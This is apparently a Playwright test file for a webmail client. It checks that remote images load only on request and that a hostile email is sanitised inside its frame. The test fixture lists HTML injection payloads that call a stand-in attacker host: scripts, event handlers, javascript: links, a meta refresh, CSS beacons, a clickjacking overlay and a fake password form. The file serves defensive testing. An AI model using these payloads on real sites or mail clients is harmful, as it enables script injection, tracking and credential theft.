import type { BrowserContext } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { deliver } from './letters.ts'

/** The smallest picture that a browser draws. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGJgAQAAAP//AwAABgAFV7+r1AAAAABJRU5ErkJggg==',
  'base64',
)

/** Stand in for a sender's servers, and note what the browser asks of them. */
async function watchFarServers(context: BrowserContext): Promise<string[]> {
  const asked: string[] = []
  await context.route(/^https?:\/\/[a-z]+\.harbour\.example\//, async (route) => {
    asked.push(route.request().url())
    await route.fulfill({ contentType: 'image/png', body: PIXEL })
  })
  return asked
}

test('remote images are fetched only once they are asked for', async ({ account, context, desk, owner, product }) => {
  const asked = await watchFarServers(context)
  await deliver(product, account, {
    subject: 'The autumn catalogue',
    html: `<p>Twelve new crates.</p>
      <img src="https://images.harbour.example/crate.png" alt="a crate" width="300" height="200">
      <img src="http://old.harbour.example/lorry.png" alt="a lorry" width="300" height="200">
      <img src="https://images.harbour.example/seen.gif?who=kim" width="1" height="1" alt="">`,
  })
  await owner.connect(account)
  await desk.goto('/inbox')
  await desk.getByRole('link', { name: 'The autumn catalogue' }).click()
  const message = desk.getByRole('article', { name: 'Message of Ana Alva' })
  const letter = message.locator('iframe').contentFrame()
  await expect(letter.getByText('Twelve new crates.')).toBeVisible()
  await expect(message).toContainText('3 remote images from')
  await expect(message).toContainText('1 of them looks like a tracker.')
  expect(asked).toEqual([])

  await message.getByRole('button', { name: 'Show images' }).click()
  await expect(message).toContainText('Their senders can tell that you opened this.')
  await expect(letter.getByRole('img', { name: 'a crate' })).toHaveJSProperty('naturalWidth', 1)
  await expect(letter.getByRole('img', { name: 'a lorry' })).toHaveJSProperty('naturalWidth', 1)
  // A sender's old address is asked by https as well: what is read here is nobody's business on the way.
  await expect
    .poll(() => asked.toSorted())
    .toEqual([
      'https://images.harbour.example/crate.png',
      'https://images.harbour.example/seen.gif?who=kim',
      'https://old.harbour.example/lorry.png',
    ])

  await message.getByRole('button', { name: 'Hide them' }).click()
  await expect(letter.locator('img')).toHaveCount(0)
})

/** What letters have tried in the wild, each aimed at something outside its frame. */
const HOSTILE = `
  <script>top.document.title = 'taken'; fetch('https://evil.harbour.example/script')</script>
  <img src="x" onerror="parent.document.title = 'taken'">
  <svg onload="top.document.title = 'taken'"><script>top.document.title = 'taken'</script><image href="https://evil.harbour.example/svg.png"/></svg>
  <iframe src="https://evil.harbour.example/frame"></iframe><iframe srcdoc="<script>top.document.title = 'taken'</script>"></iframe>
  <object data="https://evil.harbour.example/object"></object><embed src="https://evil.harbour.example/embed">
  <meta http-equiv="refresh" content="0;url=https://evil.harbour.example/refresh">
  <base href="https://evil.harbour.example/base/" target="_top">
  <link rel="stylesheet" href="https://evil.harbour.example/sheet.css"><link rel="prefetch" href="https://evil.harbour.example/fetch">
  <style>@import "https://evil.harbour.example/import.css"; body { background: url(https://evil.harbour.example/body.png) }
    @font-face { font-family: f; src: url(https://evil.harbour.example/font) } p { font-family: f }</style>
  <p style="background:url('https://evil.harbour.example/inline.png')">The crates are ready.</p>
  <div style="position:fixed;inset:0;z-index:2147483647;background:red" onclick="top.location='https://evil.harbour.example/click'">Overlay</div>
  <a href="javascript:top.document.title='taken'">Run</a> <a href="data:text/html,<script>alert(1)</script>">Data</a>
  <a href="https://pay.harbour.example/link" target="_top">Pay here</a>
  <form action="https://evil.harbour.example/form"><input name="password" value="x"><button>Sign in again</button></form>
  <video src="https://evil.harbour.example/video" poster="https://evil.harbour.example/poster.png" autoplay></video>
  <picture><source srcset="https://evil.harbour.example/source.png"><img srcset="https://evil.harbour.example/set.png 2x" alt="set"></picture>
  <input type="image" src="https://evil.harbour.example/input.png">
  <table background="https://evil.harbour.example/table.png"><tr><td>cell</td></tr></table>`

test('a hostile letter changes nothing outside its frame, and reaches nobody', async ({
  account,
  context,
  desk,
  owner,
  product,
  watch,
}) => {
  // The browser says so already while the letter is read apart from any page, before it is cleaned.
  watch.expect(/^(Executing inline event handler|Setting the document's base URI) .*violates/)
  const asked = await watchFarServers(context)
  await deliver(product, account, { subject: 'Your crates', html: HOSTILE })
  await owner.connect(account)
  await desk.goto('/inbox')
  await desk.getByRole('link', { name: 'Your crates' }).click()
  const frame = desk.getByRole('article', { name: 'Message of Ana Alva' }).locator('iframe')
  const letter = frame.contentFrame()
  await expect(letter.getByText('The crates are ready.')).toBeVisible()

  await test.step('nothing that acts is left in it', async () => {
    const acting = 'script, iframe, object, embed, form, base, link, video, audio, svg, meta[http-equiv=refresh]'
    await expect(letter.locator(acting)).toHaveCount(0)
    const acted = '[onclick], [onerror], [onload], [href^="javascript:" i], [href^="data:" i]'
    await expect(letter.locator(acted)).toHaveCount(0)
  })
  await test.step('nothing of it lies over the page', async () => {
    // A frame has the height of its letter a moment after the letter is there.
    await expect(async () => {
      const [box, overlay] = [await frame.boundingBox(), await letter.getByText('Overlay').boundingBox()]
      expect(overlay?.height).toBeLessThan((box?.height ?? 0) / 2)
    }).toPass()
    await letter.getByText('Overlay').click()
  })
  await test.step('a link opens elsewhere, without a way back to us', async () => {
    const opening = desk.waitForEvent('popup')
    await letter.getByRole('link', { name: 'Pay here' }).click()
    const opened = await opening
    await expect(opened).toHaveURL('https://pay.harbour.example/link')
    expect(await opened.evaluate('[window.opener, document.referrer]')).toEqual([null, ''])
    await opened.close()
  })
  await expect(desk).toHaveTitle(/^Your crates/)
  expect(new URL(desk.url()).origin).toBe(product.url)
  expect(asked).toEqual(['https://pay.harbour.example/link'])
})
